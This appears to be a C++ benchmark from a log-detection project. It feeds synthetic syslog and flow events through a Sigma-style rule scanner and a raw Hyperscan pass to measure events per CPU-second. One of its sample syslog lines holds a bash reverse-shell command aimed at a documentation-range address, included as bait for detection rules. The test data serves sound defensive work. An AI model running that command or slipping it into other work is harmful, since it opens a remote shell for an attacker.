// Detect-stage benchmark: JSON events as they come off Kafka (mixed syslog and flow), decoded and
// matched against a rule set on one thread, in events per CPU-second; beside it, in the same run,
// the ceiling: one raw Hyperscan pass over the same bytes with every pattern of the rule set.
//
//   detect_bench EVENTS RULE_PATH...     prints one key=value line
//   detect_bench write FILE EVENTS        writes the same events as NDJSON (for rsigma)
//   detect_bench ceiling FILE LINES RULE_PATH...
//                                         the ceiling over the first LINES lines of FILE (replay)
//
// bench/detect/run.sh runs it with the shipped pack and with 1,000+ generated rules.

#include <hs.h>

#include <cstdlib>
#include <fstream>
#include <iostream>
#include <string>
#include <vector>

#include "bench/cpu_time.hpp"
#include "collectors/syslog/parser.hpp"
#include "core/config.hpp"
#include "core/json.hpp"
#include "rules/loader.hpp"
#include "rules/scanner.hpp"

namespace {

using namespace talaia;

// Syslog lines of the kinds the shipped pack looks at, most of them harmless; `%` is replaced by
// a per-event number so no two events are the same.
const char* const syslog_lines[] = {
    "<38>1 2026-03-01T10:00:00Z web% sshd 4121 - - Accepted publickey for alice from 203.0.113.% port 50022 ssh2",
    "<38>1 2026-03-01T10:00:00Z web% sshd 4121 - - Failed password for root from 198.51.100.% port 4242 ssh2",
    "<86>Mar  1 10:00:00 web% CRON[2212]: (root) CMD (run-parts /etc/cron.hourly) %",
    "<30>Mar  1 10:00:00 db% systemd[1]: Started Session % of user postgres.",
    "<134>Mar  1 10:00:00 lb% haproxy[811]: 203.0.113.%:41234 [01/Mar/2026:10:00:00.000] fe be/srv1 0/0/1/2/3 200 512 - - ---- 1/1/0/0/0 0/0 \"GET /index.html?id=% HTTP/1.1\"",
    "<30>Mar  1 10:00:00 ns% named[733]: client @0x7f 192.0.2.%#53211 (example.org): query: example.org IN A + (192.0.2.1)",
    "<14>Mar  1 10:00:00 app% java[911]: INFO request % served in 12 ms",
    "<86>Mar  1 10:00:00 web% bash[3131]: bash -i >& /dev/tcp/198.51.100.%/4444 0>&1",
};

std::vector<std::string> make_events(std::size_t count) {
  std::vector<std::string> out;
  out.reserve(count);
  for (std::size_t i = 0; i < count; ++i) {
    core::event ev;
    ev.set_string("id", "bench:" + std::to_string(i));
    if (i % 4 == 3) {  // one flow in four
      ev.set_string("kind", "flow");
      ev.set_ip("src_ip", "10.0." + std::to_string(i % 250) + "." + std::to_string(i % 200 + 1));
      ev.set_ip("dst_ip", "192.0.2." + std::to_string(i % 250));
      ev.set_integer("src_port", 1024 + static_cast<std::int64_t>(i % 60000));
      ev.set_integer("dst_port", i % 7 == 0 ? 23 : 443);
      ev.set_integer("proto", 6);
      ev.set_integer("bytes", 1500 + static_cast<std::int64_t>(i % 90000));
      ev.set_integer("packets", 1 + static_cast<std::int64_t>(i % 40));
      ev.set_time("start", 1'772'445'600'000'000);
      ev.set_time("end", 1'772'445'601'000'000);
    } else {
      std::string line = syslog_lines[i % std::size(syslog_lines)];
      for (std::size_t p; (p = line.find('%')) != std::string::npos;) line.replace(p, 1, std::to_string(i % 250));
      collectors::syslog::parse_context ctx;
      ctx.received_micros = 1'772'445'600'000'000;
      ctx.peer = "127.0.0.1";
      collectors::syslog::parse(line, ctx, ev);
    }
    out.push_back(core::encode_event(ev));
  }
  return out;
}

struct database_deleter {
  void operator()(hs_database_t* db) const { hs_free_database(db); }
};
struct scratch_deleter {
  void operator()(hs_scratch_t* s) const { hs_free_scratch(s); }
};

// The ceiling: every regex pattern of the set in one database, one pass over each JSON line.
double ceiling_rate(const rules::rule_set& set, const std::vector<std::string>& events, std::size_t& patterns) {
  std::vector<std::string> regexes;
  for (const rules::rule& r : set.rules())
    rules::for_each_value(r.detection, [&](const rules::sigma_value& v, const rules::field_test&) {
      for (const rules::matcher& m : v.matchers)
        if (m.kind == rules::matcher_kind::regex && !m.user_regex) regexes.push_back(m.regex);
    });
  patterns = regexes.size();
  std::vector<const char*> exprs;
  std::vector<unsigned> flags, ids;
  for (std::size_t i = 0; i < regexes.size(); ++i) {
    exprs.push_back(regexes[i].c_str());
    flags.push_back(HS_FLAG_CASELESS | HS_FLAG_DOTALL | HS_FLAG_SINGLEMATCH);
    ids.push_back(static_cast<unsigned>(i));
  }
  hs_database_t* raw = nullptr;
  hs_compile_error_t* error = nullptr;
  if (hs_compile_multi(exprs.data(), flags.data(), ids.data(), static_cast<unsigned>(exprs.size()), HS_MODE_BLOCK,
                       nullptr, &raw, &error) != HS_SUCCESS) {
    std::cerr << "ceiling: " << (error ? error->message : "compile failed") << "\n";
    hs_free_compile_error(error);
    return 0;
  }
  std::unique_ptr<hs_database_t, database_deleter> db(raw);
  hs_scratch_t* scratch_raw = nullptr;
  if (hs_alloc_scratch(db.get(), &scratch_raw) != HS_SUCCESS) return 0;
  std::unique_ptr<hs_scratch_t, scratch_deleter> scratch(scratch_raw);
  std::size_t hits = 0, done = 0;
  auto on_match = [](unsigned, unsigned long long, unsigned long long, unsigned, void* ctx) {
    ++*static_cast<std::size_t*>(ctx);
    return 0;
  };
  const double start = bench::cpu_seconds();
  double spent = 0;
  while (spent < 2.0) {
    for (const std::string& e : events)
      hs_scan(db.get(), e.data(), static_cast<unsigned>(e.size()), 0, scratch.get(), on_match, &hits);
    done += events.size();
    spent = bench::cpu_seconds() - start;
  }
  return static_cast<double>(done) / spent;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc == 4 && std::string(argv[1]) == "write") {  // detect_bench write FILE EVENTS: the NDJSON for peers
    std::ofstream out(argv[2], std::ios::binary);
    for (const std::string& e : make_events(std::stoul(argv[3]))) out << e << '\n';
    return out ? 0 : 1;
  }
  if (argc >= 5 && std::string(argv[1]) == "ceiling") {  // raw Hyperscan over a file's lines
    std::ifstream in(argv[2], std::ios::binary);
    std::vector<std::string> lines;
    const std::size_t want = std::stoul(argv[3]);
    for (std::string line; lines.size() < want && std::getline(in, line);) lines.push_back(line);
    auto loaded = rules::load_paths(std::vector<std::string>(argv + 4, argv + argc));
    std::vector<rules::diagnostic> errors = std::move(loaded.errors);
    auto set = rules::rule_set::build(std::move(loaded.rules), errors);
    if (!set || !errors.empty() || lines.empty()) return 2;
    std::size_t patterns = 0;
    const double ceiling = ceiling_rate(**set, lines, patterns);
    std::cout << "lines=" << lines.size() << " ceiling_patterns=" << patterns
              << " ceiling_lines_per_cpu_s=" << static_cast<long long>(ceiling) << "\n";
    return 0;
  }
  if (argc < 3) {
    std::cerr << "usage: detect_bench EVENTS RULE_PATH... | detect_bench write FILE EVENTS\n";
    return 2;
  }
  const std::size_t count = std::stoul(argv[1]);
  std::vector<std::string> paths(argv + 2, argv + argc);
  // With TALAIA_CONFIG, the rules are loaded with that config's `sigma:` block (logsource
  // routes, field mappings, placeholders), as `talaia detect --config` loads them.
  rules::load_options options;
  if (const char* config = std::getenv("TALAIA_CONFIG"); config && *config) {
    auto cfg = core::load_config(config);
    if (!cfg) {
      std::cerr << cfg.err().message << "\n";
      return 2;
    }
    options.sigma = cfg->sigma;
  }
  auto loaded = rules::load_paths(paths, options);
  std::vector<rules::diagnostic> errors = std::move(loaded.errors);
  auto set = rules::rule_set::build(std::move(loaded.rules), errors);
  if (!set || !errors.empty()) {
    for (const auto& d : errors) std::cerr << rules::to_string(d) << "\n";
    return 2;
  }
  auto sc = rules::scanner::make(*set);
  if (!sc) return 2;
  const std::vector<std::string> events = make_events(count);
  std::size_t bytes = 0;
  for (const auto& e : events) bytes += e.size();

  // As the detect stage does: one decoder and one view per thread, reused for every message.
  core::json_decoder decoder;
  core::event_view view;
  std::vector<std::size_t> matched;
  std::size_t matches = 0, done = 0, bad = 0;
  const double start = bench::cpu_seconds();
  double spent = 0;
  while (spent < 2.0) {  // at least two CPU-seconds
    for (const std::string& json : events) {
      if (!decoder.decode(json, view)) {
        ++bad;
        continue;
      }
      matched.clear();
      sc->match(view, matched);
      matches += matched.size();
    }
    done += events.size();
    spent = bench::cpu_seconds() - start;
  }
  const double rate = static_cast<double>(done) / spent;
  if (std::getenv("DETECT_BENCH_LOOP_ONLY")) {  // for profiling the detect loop alone
    std::cout << "events_per_cpu_s=" << static_cast<long long>(rate) << "\n";
    return 0;
  }

  // The split: JSON decoding alone, and matching alone on already decoded events.
  std::size_t decoded = 0;
  double t0 = bench::cpu_seconds();
  while (bench::cpu_seconds() - t0 < 1.0)
    for (const std::string& json : events) decoded += decoder.decode(json, view) ? 1 : 0;
  const double decode_rate = static_cast<double>(decoded) / (bench::cpu_seconds() - t0);
  std::vector<core::event> parsed;
  for (const std::string& json : events)
    if (auto ev = core::decode_event(json)) parsed.push_back(std::move(*ev));
  std::size_t scanned = 0;
  t0 = bench::cpu_seconds();
  while (bench::cpu_seconds() - t0 < 1.0) {
    for (const core::event& ev : parsed) {
      matched.clear();
      sc->match(ev, matched);
    }
    scanned += parsed.size();
  }
  const double match_rate = static_cast<double>(scanned) / (bench::cpu_seconds() - t0);
  std::size_t patterns = 0;
  const double ceiling = ceiling_rate(**set, events, patterns);
  std::cout << "rules=" << (*set)->rules().size() << " events=" << done << " avg_bytes=" << bytes / count
            << " matches_per_event=" << static_cast<double>(matches) / static_cast<double>(done)
            << " events_per_cpu_s=" << static_cast<long long>(rate)
            << " decode_only=" << static_cast<long long>(decode_rate) << " match_only=" << static_cast<long long>(match_rate)
            << " ceiling_patterns=" << patterns
            << " ceiling_events_per_cpu_s=" << static_cast<long long>(ceiling)
            << " fraction_of_ceiling=" << (ceiling > 0 ? rate / ceiling : 0) << " bad=" << bad << "\n";
  return 0;
}
